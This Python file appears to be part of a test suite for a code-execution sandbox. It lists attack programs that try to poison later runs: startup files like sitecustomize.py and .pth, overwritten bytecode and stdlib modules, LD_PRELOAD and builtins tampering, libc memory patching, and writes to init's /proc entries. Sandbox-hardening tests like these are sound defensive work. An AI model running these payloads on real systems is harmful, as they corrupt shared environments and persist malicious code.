"""Programs that spoil what the next program uses: its modules, its environment, its folders, the warm interpreter itself."""

from attacks.attack import MIB, Attack

_WITH_NUMPY = {"memory_bytes": 512 * MIB, "cpu_time_s": 3.0}

ATTACKS = [
    Attack(
        name="files_that_python_runs_at_its_start",
        code="""
import site, sysconfig
LINE = "import os, sys; os.write(2, b'poisoned'); sys.stdout = None\\n"
places = [*sys.path, *sysconfig.get_paths().values(), site.getusersitepackages() if site.ENABLE_USER_SITE is not None else "",
          os.path.expanduser("~/.local/lib/python3.11/site-packages"), os.path.dirname(os.__file__)]
for place in {place for place in places if place and place != os.getcwd()}:
    for name in ("sitecustomize.py", "usercustomize.py", "attack.pth", "json.py"):
        path = os.path.join(place, name)
        if path.startswith((os.path.expanduser("~"), os.getcwd())):
            os.makedirs(place, exist_ok=True)  # its own, and gone with it
            open(path, "w").write(LINE)
        elif place.startswith("/tmp/") and not place.startswith((sys.prefix, sys.base_prefix)):
            pass  # its own too, on the way to an environment below /tmp
        else:
            attempt_here(f"write {path}", lambda: open(path, "w").write(LINE))
""",
    ),
    Attack(
        name="compiled_modules",
        code="""
import importlib.util, json, marshal, py_compile
code = b"import os; os.write(2, b'poisoned')"
for module in (json, re, os):
    cached = importlib.util.cache_from_source(module.__file__)
    attempt_here(f"write {cached}", lambda: open(cached, "wb").write(code))
    attempt_here(f"replace {cached}", lambda: os.replace(sys.argv[0], cached))
    attempt_here(f"change {module.__file__}", lambda: open(module.__file__, "r+b").write(code))
    attempt_here(f"rights of {module.__file__}", changes, module.__file__, os.chmod, 0o777)
    attempt_here(f"times of {module.__file__}", changes, module.__file__, os.utime)
    attempt_here(f"link to {module.__file__}", lambda: os.link(module.__file__, "linked"))
attempt_here("change the interpreter", lambda: open(os.path.realpath(sys.executable), "r+b"))
attempt_here("change the C library", lambda: open("/lib/x86_64-linux-gnu/libc.so.6", "r+b"))
""",
    ),
    Attack(
        name="the_interpreter_itself",
        code="""
import builtins, gc, io, json, threading
builtins.print = lambda *_: None
builtins.input = lambda *_: "poisoned"
builtins.open = None
json.dumps = lambda *_: "poisoned"
sys.modules["json"] = None
sys.path.insert(0, "/tmp")
sys.setrecursionlimit(50)
sys.setswitchinterval(10)
gc.disable()
os.environ["LD_PRELOAD"] = "/tmp/attack.so"
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = "/tmp"
_libc.setenv(b"LD_PRELOAD", b"/tmp/attack.so", 1)
ctypes.c_char.from_address(id(257) + 24).value = b"x"  # an integer that all programs might share
os.umask(0o777)
""",
    ),
    Attack(
        name="state_of_numpy_and_sympy",
        code="""
import numpy, sympy
numpy.random.seed(1)
numpy.seterr(all="raise")
numpy.set_printoptions(precision=1)
numpy.add = numpy.linalg.det = None
sympy.sin = sympy.Symbol = None
sympy.S.Zero.__class__.__str__ = lambda _: "poisoned"
from sympy.core.cache import clear_cache
clear_cache()
array = numpy.zeros(1 << 20)
array[:] = 7
""",
        limits=_WITH_NUMPY,
    ),
    Attack(
        name="memory_that_processes_share",
        code="""
with open("/proc/self/maps") as maps:
    for line in maps:
        if line.split()[1].startswith("rw-s") and "/dev/zero" not in line and "stdin" not in line:
            say(f"reached: shared memory of the judge: {line.strip()}")
""",
    ),
    Attack(
        name="memory_of_the_code_that_all_run",
        code="""
import mmap
PAGE = 4096
code = _libc.getpid
address = ctypes.cast(code, ctypes.c_void_p).value & -PAGE
if _libc.mprotect(ctypes.c_void_p(address), PAGE, 7) == 0:  # a private copy of the page
    ctypes.memset(ctypes.cast(code, ctypes.c_void_p).value, 0xC3, 1)
""",
    ),
    Attack(
        name="files_in_shared_places",
        code="""
for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.expanduser("~"), "/run", "/dev/mqueue"):
    for name in ("left", ".left", "json.py", "numpy.py"):
        try:
            open(os.path.join(folder, name), "w").write("raise SystemExit('poisoned')")
        except OSError as error:
            say(f"refused: {folder} - {error}")
_libc.shm_open(b"/left-shared", 0o102, 0o666)
_libc.shmget(0x5EED, 4096, 0o1666)
_libc.semget(0x5EED, 1, 0o1666)
_libc.msgget(0x5EED, 0o1666)
_libc.mq_open(b"/left-queue", 0o102, 0o666, None)
os.mkfifo("/tmp/fifo")
socket.socket(socket.AF_UNIX).bind("/tmp/socket")
""",
    ),
    Attack(
        name="settings_of_the_process",
        code="""
import resource
os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
os.nice(19)
os.umask(0)
resource.setrlimit(resource.RLIMIT_NOFILE, (16, 16))
resource.setrlimit(resource.RLIMIT_NPROC, (1, 1))
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
""",
    ),
    Attack(
        name="settings_of_init",
        code="""
import resource
attempt("memory of init", lambda: open("/proc/1/mem", "r+b"))
for change in (lambda: os.sched_setaffinity(1, {0}), lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
               lambda: open("/proc/1/oom_score_adj", "w").write("1000"),
               lambda: resource.prlimit(1, resource.RLIMIT_NPROC, (1, 1))):
    try:
        change()  # it may: the init is this job's alone
    except OSError as error:
        say(f"refused: {error}")
""",
    ),
]
